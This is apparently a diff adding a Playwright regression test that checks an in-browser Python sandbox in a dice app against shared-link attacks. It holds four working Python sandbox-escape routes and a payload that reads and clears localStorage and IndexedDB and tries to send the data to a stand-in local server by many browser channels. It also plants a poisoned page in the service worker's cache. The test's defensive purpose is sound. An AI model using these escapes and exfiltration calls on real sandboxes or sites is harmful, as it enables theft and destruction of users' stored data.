@@ -1,0 +1,234 @@
+"""Issue 20: a link never runs code, and a program reaches neither saved data nor the network.
+
+A second local server stands for another site. Programs that leave Python's name filter by four
+roads (a module's ``sys`` → ``builtins``; ``__subclasses__`` → a function's ``__globals__``; a
+frame's builtins; ``gc.get_objects()``) each try to read localStorage and IndexedDB, send what
+they find to that server by every means a worker has, and clear the store. Opened from a link
+they do not run; run by the user's click they run to the end, in the sandboxed runner, and the
+other server hears nothing, the saved log is intact and the cached page is the built one.
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import ClassVar
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+
+from e2e_support import READY, Watch, open_app, wait_until_controlled, watch_page
+from panels.notation.lab_share import encode_lab
+from panels.notation.lab_state import Lab
+from serve import serve_in_thread
+
+STEAL = """
+def xhr(js, url):
+    request = js.XMLHttpRequest.new()
+    request.open("GET", url)
+    request.send()
+
+
+def steal(js, road):
+    seen = []
+    attempts = (
+        lambda: seen.append("ls=" + str(js.localStorage.length)),
+        lambda: seen.append("ls-key=" + str(js.localStorage.key(0))),
+        lambda: seen.append("idb=" + str(js.indexedDB.open("gm-dice"))),
+        lambda: js.indexedDB.deleteDatabase("gm-dice"),
+        lambda: js.caches.keys(),
+        lambda: js.localStorage.clear(),
+        lambda: js.fetch(OTHER + "/fetch?road=" + road + "&seen=" + ",".join(seen)),
+        lambda: js.fetch(OTHER + "/post?road=" + road, js.Object.fromEntries([["method", "POST"], ["body", "x"]])),
+        # the worker's own fetch, not the runner's wrapper around it
+        lambda: js.Reflect.apply(js.WorkerGlobalScope.prototype.fetch, js.self, [OTHER + "/real?road=" + road]),
+        lambda: xhr(js, OTHER + "/xhr?road=" + road),
+        lambda: js.navigator.sendBeacon(OTHER + "/beacon?road=" + road, "x"),
+        lambda: js.WebSocket.new(OTHER.replace("http", "ws") + "/ws?road=" + road),
+        lambda: js.EventSource.new(OTHER + "/sse?road=" + road),
+        lambda: js.importScripts(OTHER + "/script.js?road=" + road),
+        lambda: js.eval("fetch('" + OTHER + "/eval?road=" + road + "')"),
+        lambda: js.Function.new("return fetch('" + OTHER + "/function?road=" + road + "')")(),
+        lambda: js.Worker.new(OTHER + "/worker.js?road=" + road),
+        lambda: js.setTimeout(js.Function.new("fetch('" + OTHER + "/later?road=" + road + "')"), 10),
+    )
+    for attempt in attempts:
+        try:
+            attempt()
+        except Exception:
+            pass
+    output(d6, "road " + road)
+"""
+
+# Each road reaches the real builtins module, whose __import__ gives the page's runtime (`js`).
+ROADS = {
+    "1": """
+import dataclasses
+real = dataclasses.sys.modules["builtins"]
+steal(real.getattr(real, "__import__")("js"), "1")
+""",
+    "2": """
+import string
+field = string.Formatter().get_field
+for cls in field("0.__class__.__base__.__subclasses__", [()], {})[0]():
+    try:
+        found = field("0.__init__.__globals__", [cls], {})[0]
+    except Exception:
+        continue
+    if "sys" in found:
+        real = found["sys"].modules["builtins"]
+        break
+steal(real.getattr(real, "__import__")("js"), "2")
+""",
+    "3": """
+def probe():
+    yield walker.gi_frame.f_back
+walker = probe()
+frame = next(walker)
+while "eval" not in frame.f_builtins:
+    frame = frame.f_back
+steal(frame.f_builtins["__import__"]("js"), "3")
+""",
+    "4": """
+import dataclasses
+real = dataclasses.sys.modules["builtins"]
+gc = real.getattr(real, "__import__")("gc")
+module = type(gc)
+for thing in gc.get_objects():
+    if type(thing) is module and str(thing) == "<module 'builtins' (built-in)>":
+        real = thing
+        break
+steal(real.getattr(real, "__import__")("js"), "4")
+""",
+}
+
+
+class Other(BaseHTTPRequestHandler):
+    """Another site: records every request it gets, whatever its method."""
+
+    heard: ClassVar[list[str]] = []
+
+    def _record(self) -> None:
+        Other.heard.append(f"{self.command} {self.path}")
+        self.send_response(200)
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.send_header("Content-Type", "text/javascript")
+        self.end_headers()
+        self.wfile.write(b"")
+
+    do_GET = do_POST = do_PUT = do_OPTIONS = _record
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+
+@pytest.fixture
+def other_site() -> Iterator[str]:
+    Other.heard = []
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Other)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_address[1]}"
+    server.shutdown()
+
+
+@pytest.fixture
+def own_site(site_dir: Path, tmp_path: Path) -> Path:
+    site = tmp_path / "site"
+    shutil.copytree(site_dir, site)
+    return site
+
+
+def _refusals_only(watch: Watch) -> None:
+    """The sandbox's CSP refusals are what a blocked attempt logs; anything else is a fault."""
+    refused = ("Content Security Policy", "Failed to fetch", "NetworkError", "Refused to")
+    watch.console_errors = [e for e in watch.console_errors if not any(r in e for r in refused)]
+    watch.assert_clean()
+
+
+def _gauss_log(page: Page) -> list[str]:
+    return page.locator("#gauss-log li").all_inner_texts()
+
+
+def test_a_shared_program_reaches_no_saved_data_and_no_other_site(
+    browser: Browser, site_url: str, other_site: str
+) -> None:
+    """Each road out: no request on open (it does not run), none after the click (it runs, boxed in)."""
+    watch = Watch()
+    context, page = open_app(browser, site_url + "index.html?seed=7", watch)
+    for _ in range(3):
+        page.click("#gauss-roll")
+    expect(page.locator("#gauss-log li")).to_have_count(3)
+    log = _gauss_log(page)
+    wait_until_controlled(page)
+    for road, source in ROADS.items():
+        program = f"OTHER = {other_site!r}\n{STEAL}\n{source}"
+        link = encode_lab(Lab(("3d6",), program=program))
+        page.goto(site_url + f"index.html?lab={link}#notation")
+        page.wait_for_selector(READY, state="attached", timeout=60_000)
+        expect(page.locator("#lab-stats th")).to_have_text(["3d6"])
+        assert page.input_value("#lab-program") == program
+        expect(page.locator("#lab-program-origin")).to_contain_text("Программа из ссылки")
+        page.wait_for_timeout(500)
+        assert page.evaluate("gmRunner.running()") is False, "a link started the runner"
+        assert Other.heard == [], f"road {road} from the link alone: {Other.heard}"
+        page.click("#lab-program-run")
+        expect(page.locator("#lab-stats th")).to_have_text(["3d6", f"road {road}"], timeout=60_000)
+        page.wait_for_timeout(1000)  # what it scheduled (timers, promises) has had its time
+        assert Other.heard == [], f"road {road} after the click: {Other.heard}"
+    assert page.evaluate("gmRunner.boot()") == "snapshot"
+    # Nothing of the site was touched: the log is there after a reload, the cache holds the built page.
+    page.goto(site_url + "index.html")
+    page.wait_for_selector(READY, state="attached", timeout=60_000)
+    expect(page.locator("#gauss-log li")).to_have_count(3)
+    assert _gauss_log(page) == log
+    cached = page.evaluate("caches.match('./index.html').then(r => r.text())")
+    served = page.evaluate("fetch('./index.html').then(r => r.text())")
+    assert cached == served and 'id="lab-program-run"' in cached
+    assert Other.heard == []
+    context.close()
+    _refusals_only(watch)
+
+
+def test_a_poisoned_cache_is_replaced_by_the_next_build(browser: Browser, own_site: Path) -> None:
+    """A page poisoned by the old hole (index.html replaced in the service worker's cache) is gone
+    once the next build's service worker takes over: every file is fetched again, old caches dropped."""
+    server, url = serve_in_thread(own_site)
+    watch = Watch()
+    try:
+        context, page = open_app(browser, url + "index.html", watch)
+        wait_until_controlled(page)
+        build = json.loads((own_site / "build.json").read_text())["build"]
+        poison = "<!doctype html><link rel=icon href=\"data:,\"><title>poisoned</title><p id=poisoned>poisoned</p>"
+        page.evaluate(
+            """([name, body]) => caches.open(name).then(c => c.put('./index.html',
+                new Response(body, {headers: {'Content-Type': 'text/html'}})))""",
+            [f"gm-dice-{build}", poison],
+        )
+        page.reload()
+        expect(page.locator("#poisoned")).to_be_visible()  # the hole's effect, as it was
+        worker = (own_site / "sw.js").read_text()
+        (own_site / "sw.js").write_text(worker.replace(build, build[::-1]))  # the next build
+        page.evaluate("navigator.serviceWorker.getRegistration().then(r => r.update())")
+        page.wait_for_function(
+            "navigator.serviceWorker.getRegistration().then(r => !!r.waiting)", polling=200, timeout=60_000
+        )
+        page.close()  # the old worker's last page: the waiting one takes over (a moment later)
+        for _ in range(20):
+            fresh = watch_page(context.new_page(), watch)
+            fresh.goto(url + "index.html")
+            if fresh.locator("#poisoned").count() == 0:
+                break
+            fresh.close()
+        fresh.wait_for_selector(READY, state="attached", timeout=60_000)
+        fresh.wait_for_function(f"caches.keys().then(k => !k.includes('gm-dice-{build}'))", timeout=30_000)
+        assert f"gm-dice-{build[::-1]}" in fresh.evaluate("caches.keys()")
+        cached = fresh.evaluate("caches.match('./index.html').then(r => r.text())")
+        assert cached == (own_site / "index.html").read_text(encoding="utf-8")
+        context.close()
+    finally:
+        server.shutdown()
+    watch.assert_clean()
